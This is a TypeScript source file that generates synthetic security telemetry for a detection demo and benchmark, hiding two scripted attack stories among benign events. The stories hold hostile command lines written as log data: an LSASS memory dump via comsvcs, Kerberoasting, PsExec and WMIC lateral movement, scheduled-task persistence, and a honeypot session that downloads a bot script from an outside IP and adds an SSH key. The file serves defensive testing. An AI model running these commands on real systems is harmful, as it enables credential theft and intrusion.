/**
 * The demo and benchmark scenario: benign activity of many users and hosts, with two attack
 * stories hidden in it, deterministic for a seed and scalable to millions of events.
 *
 * - Story "insider account": CORP\svc-backup on WS-042 runs discovery (whoami, domain admins,
 *   nltest), dumps LSASS with comsvcs, requests RC4 service tickets (kerberoasting), then moves
 *   to SRV-DB-01 with PsExec and WMIC — discovery → credential access → lateral movement
 *   across two hosts.
 * - Story "honeypot attacker": 203.0.113.77 on the SSH honeypot runs recon, downloads a tool
 *   and persists with cron and an authorized key.
 *
 * Events come out in event-time order, spaced by seeded jitter from a fixed start. Pure.
 */
import { honeypotCommand, securityEvent, sysmonProcess, type WindowsProcess } from './event-shapes';
import { Prng } from './prng';

export interface ScenarioOptions {
  readonly seed?: number;
  readonly events?: number;
  readonly startMs?: number;
}

export const SCENARIO_START_MS = Date.UTC(2026, 0, 15, 8, 0, 0);
const DOMAIN = 'CORP';
const ATTACKER_USER = `${DOMAIN}\\svc-backup`;
const ATTACKER_IP = '203.0.113.77';

const BENIGN_PROCESSES: readonly [string, string, string][] = [
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"chrome.exe" --type=renderer --lang=en-US',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    '"OUTLOOK.EXE"',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
    'C:\\Windows\\System32\\services.exe',
  ],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git fetch --all', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Users\\Public\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    '"Code.exe" --type=utility',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Windows\\System32\\notepad.exe',
    'notepad.exe C:\\Users\\Public\\notes.txt',
    'C:\\Windows\\explorer.exe',
  ],
  ['C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Program Files\\Microsoft\\Teams\\ms-teams.exe',
    'ms-teams.exe --process-start-reason=AutoStart',
    'C:\\Windows\\explorer.exe',
  ],
];

function attackStory(
  startMs: number,
): { at: number; event: (id: string, ms: number) => Record<string, unknown> }[] {
  const ws = 'WS-042.corp.example';
  const db = 'SRV-DB-01.corp.example';
  const proc = (
    host: string,
    image: string,
    commandLine: string,
    parentImage = 'C:\\Windows\\System32\\cmd.exe',
  ): ((id: string, ms: number) => Record<string, unknown>) => {
    const p: WindowsProcess = { host, user: ATTACKER_USER, image, commandLine, parentImage };
    return (id, ms) => sysmonProcess(id, ms, p);
  };
  const minute = 60_000;
  const steps = [
    proc(ws, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all'),
    proc(ws, 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain'),
    proc(ws, 'C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:corp.example'),
    proc(
      ws,
      'C:\\Windows\\System32\\rundll32.exe',
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
    ),
    (id: string, ms: number) =>
      securityEvent(id, ms, 'DC-01.corp.example', 4769, {
        TargetUserName: 'svc-backup@CORP.EXAMPLE',
        ServiceName: 'MSSQLSvc',
        TicketEncryptionType: '0x17',
        IpAddress: '10.20.4.42',
      }),
    proc(
      ws,
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
    ),
    proc(db, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c "whoami & hostname"', 'C:\\Windows\\PSEXESVC.exe'),
    proc(
      ws,
      'C:\\Windows\\System32\\wbem\\wmic.exe',
      'wmic /node:SRV-DB-01 process call create "cmd.exe /c net user"',
    ),
    proc(
      db,
      'C:\\Windows\\System32\\schtasks.exe',
      'schtasks /create /tn Updater /tr C:\\Temp\\u.exe /sc onlogon',
      'C:\\Windows\\PSEXESVC.exe',
    ),
  ];
  return steps.map((event, i) => ({ at: startMs + i * 4 * minute, event }));
}

function honeypotStory(
  startMs: number,
): { at: number; event: (id: string, ms: number) => Record<string, unknown> }[] {
  const session = 'ssh-7f3a';
  const commands = [
    'uname -a',
    'id',
    'cat /etc/passwd',
    'wget http://198.51.100.23/x/bot.sh -O /tmp/.b',
    'crontab /tmp/.c.txt',
    'echo ssh-rsa AAAAB3Nza... >> ~/.ssh/authorized_keys',
  ];
  return commands.map((command, i) => ({
    at: startMs + i * 20_000,
    event: (id: string, ms: number) => honeypotCommand(id, ms, ATTACKER_IP, session, command),
  }));
}

/** Yields the scenario's events in event-time order. */
export function* generateScenario(options: ScenarioOptions = {}): Generator<Record<string, unknown>> {
  const seed = options.seed ?? 42;
  const total = Math.max(0, options.events ?? 20_000);
  const start = options.startMs ?? SCENARIO_START_MS;
  const prng = new Prng(seed);
  // Event ids name seed and start, so replays of one scenario repeat ids and other starts do not.
  const prefix = `scn-${seed}-${start.toString(36)}`;
  const users = Array.from({ length: 200 }, (_, i) => `${DOMAIN}\\user${String(i).padStart(3, '0')}`);
  const hosts = Array.from({ length: 120 }, (_, i) => `WS-${String(i).padStart(3, '0')}.corp.example`);
  const honeypotNoise = ['ls', 'pwd', 'echo hello', 'exit', 'w'];
  // Stories start a third of the way in, so they sit among benign activity on both sides.
  const storyStart = start + Math.floor(total / 3) * 250;
  const scripted = [...attackStory(storyStart), ...honeypotStory(storyStart + 90_000)].sort(
    (a, b) => a.at - b.at,
  );
  let next = 0;
  let ms = start;
  for (let i = 0; i < total; i++) {
    ms += 1 + prng.int(500);
    while (next < scripted.length && scripted[next]!.at <= ms) {
      yield scripted[next]!.event(`${prefix}-story-${next}`, scripted[next]!.at);
      next++;
    }
    const id = `${prefix}-${i}`;
    const roll = prng.next();
    if (roll < 0.8) {
      const [image, commandLine, parentImage] = prng.pick(BENIGN_PROCESSES);
      yield sysmonProcess(id, ms, {
        host: prng.pick(hosts),
        user: prng.pick(users),
        image,
        commandLine,
        parentImage,
      });
    } else if (roll < 0.97) {
      yield securityEvent(id, ms, prng.pick(hosts), 4624, {
        TargetUserName: prng.pick(users).split('\\')[1],
        LogonType: prng.pick([2, 3, 10]),
        IpAddress: `10.20.${prng.int(32)}.${1 + prng.int(250)}`,
      });
    } else if (roll < 0.995) {
      yield honeypotCommand(
        id,
        ms,
        `198.18.${prng.int(256)}.${1 + prng.int(250)}`,
        `ssh-${prng.int(1e6).toString(16)}`,
        prng.pick(honeypotNoise),
      );
    } else {
      // An administrator's legitimate whoami: the low-scoring noise risk-based alerting absorbs.
      const p: WindowsProcess = {
        host: prng.pick(hosts),
        user: `${DOMAIN}\\admin${prng.int(5)}`,
        image: 'C:\\Windows\\System32\\whoami.exe',
        commandLine: 'whoami',
        parentImage: 'C:\\Windows\\System32\\cmd.exe',
      };
      yield sysmonProcess(id, ms, p);
    }
  }
  while (next < scripted.length) {
    yield scripted[next]!.event(`${prefix}-story-${next}`, scripted[next]!.at);
    next++;
  }
}
